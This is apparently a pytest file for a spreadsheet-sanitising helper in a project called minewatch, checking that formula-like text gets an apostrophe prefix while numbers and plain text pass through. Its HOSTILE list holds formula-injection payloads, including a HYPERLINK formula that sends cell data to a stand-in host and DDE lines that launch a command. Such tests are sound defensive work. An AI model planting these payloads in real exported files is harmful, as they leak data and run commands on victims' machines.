"""minewatch.plumbing.cells: text a spreadsheet would run gets a leading ', numbers stay numbers."""
from __future__ import annotations

import math

import pandas as pd

from minewatch.plumbing.cells import spreadsheet_safe, spreadsheet_safe_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "-", "+", "@"]


def test_formula_text_is_prefixed():
    assert [spreadsheet_safe(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]


def test_numbers_and_harmless_text_are_unchanged():
    for v in (-3, -2.5, 0, 7, True, None, "-3", "-3.25", "+1e5", ".5", "合格", "C1300002011011120123456",
              "planned:1", "", "a=b", " =1"):
        assert spreadsheet_safe(v) == v
    assert math.isnan(spreadsheet_safe(float("nan")))


def test_frame_text_columns_only():
    df = pd.DataFrame({"holder": ["=1+1", "某公司", None], "area": [-1.5, 2.0, float("nan")], "n": [-1, 0, 1]})
    out = spreadsheet_safe_frame(df)
    assert out["holder"].tolist() == ["'=1+1", "某公司", None]
    assert out["n"].tolist() == [-1, 0, 1] and out["area"].tolist()[:2] == [-1.5, 2.0]
    assert df["holder"].tolist()[0] == "=1+1"          # the caller's frame is not changed
    assert out.to_csv(index=False) == "holder,area,n\n'=1+1,-1.5,-1\n某公司,2.0,0\n,,1\n"
